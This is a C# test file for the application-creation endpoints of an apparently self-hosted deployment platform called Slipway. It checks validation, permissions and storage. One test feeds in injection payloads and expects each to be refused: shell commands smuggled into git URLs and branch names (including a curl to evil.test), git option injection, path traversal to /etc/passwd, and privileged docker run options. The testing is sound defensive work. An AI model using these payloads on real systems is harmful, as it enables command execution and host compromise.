using System.Net;
using Microsoft.EntityFrameworkCore;
using Slipway.Api.Tests.Fixtures;
using Slipway.Core.Tokens;

namespace Slipway.Api.Tests.Applications;

public sealed class ApplicationsCreateTests(ApiFactory factory) : IClassFixture<ApiFactory>
{
    private readonly Seeder _seed = new(factory);

    private async Task<Dictionary<string, object?>> PlacementAsync(long teamId = 0)
    {
        var project = await _seed.ProjectAsync(teamId);
        var server = await _seed.ServerAsync(teamId);
        return new Dictionary<string, object?>
        {
            ["project_uuid"] = project.Uuid,
            ["environment_name"] = "production",
            ["server_uuid"] = server.Uuid,
        };
    }

    private static Dictionary<string, object?> With(Dictionary<string, object?> body, params (string Key, object? Value)[] fields)
    {
        var copy = new Dictionary<string, object?>(body);
        foreach (var (key, value) in fields)
        {
            copy[key] = value;
        }

        return copy;
    }

    [Fact]
    public async Task CreatePublic_ValidStatic_Returns201AndStoresApplication()
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", "static"), ("name", "site"), ("domains", "https://site.example.com"), ("tags", new[] { "web", "prod" }));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var uuid = (await response.NodeAsync())["uuid"]!.GetValue<string>();
        Assert.Matches("^[a-z0-9]{24}$", uuid);
        await using var db = factory.CreateDbContext();
        var stored = await db.Applications.Include(a => a.Tags).ThenInclude(t => t.Tag).SingleAsync(a => a.Uuid == uuid, TestContext.Current.CancellationToken);
        Assert.Equal("site", stored.Name);
        Assert.Equal("static", stored.BuildPack);
        Assert.Equal("80", stored.PortsExposes);
        Assert.Equal("https://site.example.com", stored.Fqdn);
        Assert.Equal(["prod", "web"], stored.Tags.Select(t => t.Tag!.Name).Order().ToArray());
    }

    [Fact]
    public async Task CreatePublic_MissingRequiredFields_Returns422NamingEach()
    {
        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", await PlacementAsync());

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Equal(["build_pack", "git_branch", "git_repository", "ports_exposes"], await response.ErrorFieldsAsync());
        Assert.Equal("Validation failed.", (await response.NodeAsync())["message"]!.GetValue<string>());
    }

    [Theory]
    [InlineData("gpu_count", "1", "Not supported by Slipway: GPU settings cannot be tested on the machines Slipway is built on, so they are refused rather than ignored.")]
    [InlineData("install_command", "npm ci",
        "Not supported by Slipway yet: install/build/start commands belong to the nixpacks-style build packs, which Slipway does not have (use a Dockerfile).")]
    [InlineData("surprise", 1, "This field is not allowed.")]
    [InlineData("ports_exposes", 3000, "The ports_exposes field must be a string.")]
    [InlineData("health_check_enabled", "yes", "The health_check_enabled field must be true or false.")]
    public async Task CreatePublic_UnknownUnsupportedOrMistypedField_Returns422NamingIt(string field, object value, string message)
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", "static"), (field, value));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var errors = (await response.NodeAsync())["errors"]!;
        Assert.Equal(message, errors[field]![0]!.GetValue<string>());
    }

    [Theory]
    [InlineData("git_repository", "https://github.com/org/repo.git'; curl evil.test; #")]
    [InlineData("git_repository", "git@example.com:org/repo.git'; curl evil.test; #")]
    [InlineData("git_repository", "--upload-pack=malicious")]
    [InlineData("git_repository", "file:///etc")]
    [InlineData("git_branch", "main`id`")]
    [InlineData("git_branch", "main$(id)")]
    [InlineData("git_branch", "main;id")]
    [InlineData("git_branch", "-main")]
    [InlineData("git_branch", "a..b")]
    [InlineData("git_commit_sha", "HEAD'; id >/tmp/poc; #")]
    [InlineData("git_commit_sha", "--upload-pack=malicious")]
    [InlineData("dockerfile_location", "/Dockerfile; echo pwned")]
    [InlineData("dockerfile_location", "/Dockerfile$(whoami)")]
    [InlineData("dockerfile_location", "/../../../etc/passwd")]
    [InlineData("base_directory", "/src; echo pwned")]
    [InlineData("health_check_path", "/health$(id)")]
    [InlineData("health_check_host", "localhost; id")]
    [InlineData("health_check_method", "GET; id")]
    [InlineData("health_check_port", "8080; whoami")]
    [InlineData("domains", "http://$(whoami).example.com")]
    [InlineData("domains", "http://example.com/path;id")]
    [InlineData("custom_docker_run_options", "--privileged")]
    [InlineData("custom_docker_run_options", "--network host; id")]
    [InlineData("custom_docker_run_options", "--cap-add SYS_ADMIN")]
    [InlineData("custom_docker_run_options", "--cap-add=ALL")]
    [InlineData("custom_docker_run_options", "-v /:/host")]
    [InlineData("custom_docker_run_options", "--pid host")]
    [InlineData("custom_docker_run_options", "--security-opt seccomp=unconfined")]
    [InlineData("custom_docker_run_options", "--network host")]
    [InlineData("static_image", "nginx:alpine; id")]
    [InlineData("ports_mappings", "8080:80; id")]
    [InlineData("git_branch", "main\n")]
    [InlineData("git_commit_sha", "HEAD\n")]
    [InlineData("dockerfile_location", "/Dockerfile\n")]
    [InlineData("health_check_host", "localhost\n")]
    [InlineData("static_image", "nginx:alpine\n")]
    [InlineData("domains", "http://example.com/../../etc/passwd")]
    public async Task CreatePublic_InjectionPayload_Returns422AndStoresNothing(string field, string payload)
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", "static"), ("name", "injection-" + field), (field, payload));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Contains(field, await response.ErrorFieldsAsync());
        await using var db = factory.CreateDbContext();
        Assert.False(await db.Applications.AnyAsync(a => a.Name == "injection-" + field, TestContext.Current.CancellationToken));
    }

    [Theory]
    [InlineData("dockerfile_location", "/packages/@intlayer/mcp/Dockerfile")]
    [InlineData("dockerfile_location", "/build~v1/c++/Dockerfile")]
    [InlineData("git_branch", "feature/my-branch")]
    [InlineData("git_branch", "v1.2.3")]
    [InlineData("git_repository", "git@github.com:org/repo.git")]
    [InlineData("git_repository", "ssh://git@example.com:2222/org/repo.git")]
    [InlineData("git_repository", "git://127.0.0.1/repo.git")]
    [InlineData("custom_docker_run_options", "--network slipway --cap-drop ALL --cap-add NET_BIND_SERVICE --security-opt no-new-privileges --ulimit nofile=1024:2048 --memory 256m --cpus 0.5")]
    public async Task CreatePublic_UnusualButValidInput_IsAccepted(string field, string value)
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", "dockerfile"), ("ports_exposes", "3000"), (field, value));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
    }

    [Theory]
    [InlineData("nixpacks", "The nixpacks build pack is not supported by Slipway; use dockerfile, static.")]
    [InlineData("banana", "The build_pack must be one of dockerfile, static.")]
    public async Task CreatePublic_UnsupportedBuildPack_Returns422(string buildPack, string message)
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", buildPack), ("ports_exposes", "3000"));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(message, (await response.NodeAsync())["errors"]!["build_pack"]![0]!.GetValue<string>());
    }

    [Fact]
    public async Task CreatePublic_AnotherTeamsProject_Returns404()
    {
        var other = await factory.CreateTeamAsync("other-create");
        var otherPlacement = await PlacementAsync(other);
        var body = With(otherPlacement, ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"), ("build_pack", "static"));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("Project not found.", (await response.NodeAsync())["message"]!.GetValue<string>());
    }

    [Fact]
    public async Task CreateDockerImage_Valid_StoresImageAndDefaultTag()
    {
        var body = With(await PlacementAsync(), ("docker_registry_image_name", "slipway-test/busybox"), ("ports_exposes", "8080"));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/dockerimage", body);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var uuid = (await response.NodeAsync())["uuid"]!.GetValue<string>();
        await using var db = factory.CreateDbContext();
        var stored = await db.Applications.SingleAsync(a => a.Uuid == uuid, TestContext.Current.CancellationToken);
        Assert.Equal(("dockerimage", "slipway-test/busybox", "latest"), (stored.BuildPack, stored.DockerRegistryImageName, stored.DockerRegistryImageTag));
    }

    [Fact]
    public async Task CreateDockerfile_InlineDockerfile_IsStoredAndHiddenFromReadTokens()
    {
        var body = With(await PlacementAsync(), ("dockerfile", "FROM slipway-test/busybox\nCMD [\"httpd\",\"-f\"]\n"), ("ports_exposes", "80"));
        var created = await factory.RootClient().PostBodyAsync("/api/v1/applications/dockerfile", body);
        var uuid = (await created.NodeAsync())["uuid"]!.GetValue<string>();

        var asRead = await factory.ClientWith(await factory.CreateTokenAsync(ApiAbility.Read)).GetJsonAsync($"/api/v1/applications/{uuid}");
        var asRoot = await factory.RootClient().GetJsonAsync($"/api/v1/applications/{uuid}");

        Assert.False(asRead.AsObject().ContainsKey("dockerfile"));
        Assert.StartsWith("FROM slipway-test/busybox", asRoot["dockerfile"]!.GetValue<string>(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task CreateDeployKey_UnknownKey_Returns422()
    {
        var body = With(await PlacementAsync(), ("git_repository", "git@github.com:org/private.git"), ("git_branch", "main"),
            ("build_pack", "static"), ("private_key_uuid", "doesnotexist000000000000"));

        var response = await factory.RootClient().PostBodyAsync("/api/v1/applications/private-deploy-key", body);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Equal(["private_key_uuid"], await response.ErrorFieldsAsync());
    }

    [Fact]
    public async Task CreatePublic_InstantDeploy_QueuesADeployment()
    {
        var body = With(await PlacementAsync(), ("git_repository", "https://github.com/example/site.git"), ("git_branch", "main"),
            ("build_pack", "static"), ("instant_deploy", true));

        var json = await (await factory.RootClient().PostBodyAsync("/api/v1/applications/public", body)).NodeAsync();

        var deployment = await factory.RootClient().GetJsonAsync($"/api/v1/deployments/{json["deployment_uuid"]!.GetValue<string>()}");
        Assert.Equal("queued", deployment["status"]!.GetValue<string>());
    }

    [Fact]
    public async Task CreatePublic_ReadToken_Returns403()
    {
        var token = await factory.CreateTokenAsync(ApiAbility.Read | ApiAbility.Deploy);

        var response = await factory.ClientWith(token).PostBodyAsync("/api/v1/applications/public", await PlacementAsync());

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("Missing required permissions: write", (await response.NodeAsync())["message"]!.GetValue<string>());
    }
}
